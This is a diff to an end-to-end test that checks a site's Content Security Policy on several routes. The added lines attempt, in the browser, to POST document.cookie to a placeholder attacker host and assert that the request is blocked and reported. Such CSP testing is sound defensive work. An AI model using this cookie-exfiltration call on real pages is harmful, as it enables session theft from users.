@@ -27,5 +27,14 @@ test.each(['/', '/events?search=x', '/en/events', '/cart', '/order', '/nowhere']
     });
     await expect.poll(async () => (await told()).length).toBe(2);
     expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
+
+    const isSent = page.evaluate(() =>
+      fetch('https://thief.example/', { method: 'POST', body: document.cookie, mode: 'no-cors' }).then(
+        () => true,
+        () => false,
+      ),
+    );
+    expect(await isSent).toBe(false);
+    expect((await told()).at(-1)).toContain('connect-src https://thief.example');
   },
 );
